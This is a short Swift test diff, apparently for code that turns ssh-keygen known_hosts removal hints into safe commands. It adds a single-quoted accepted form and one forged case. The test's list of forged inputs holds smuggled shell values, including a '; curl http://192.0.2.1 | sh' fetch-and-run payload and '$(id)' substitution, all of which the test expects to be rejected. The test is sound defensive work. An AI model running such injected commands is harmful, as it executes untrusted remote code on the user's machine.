@@ -243,10 +243,14 @@ struct ServerOutcomeTests {
         #expect(
             removal(#"  ssh-keygen -f "/home/me/a b/known_hosts" -R "[h.example]:2222""#)
                 == "ssh-keygen -f '/home/me/a b/known_hosts' -R '[h.example]:2222'")
+        // As OpenSSH 10.6 writes it.
+        let newer = "ssh-keygen -f '/home/me/a b/known_hosts' -R '[h.example]:2222'"
+        #expect(removal("  " + newer) == newer)
         for forged in [
             #"  ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh"#,
             #"  ssh-keygen -f "/x" -R "github.com; curl http://192.0.2.1 | sh""#,
             #"  ssh-keygen -f "/x" -R "$(id)""#, #"  ssh-keygen -f "/dev/null" -R "h""#,
+            #"  ssh-keygen -f '/home/me/a'\''b/known_hosts' -R 'h'"#,
         ] {
             #expect(removal(forged) == .some(nil), "\(forged)")
         }
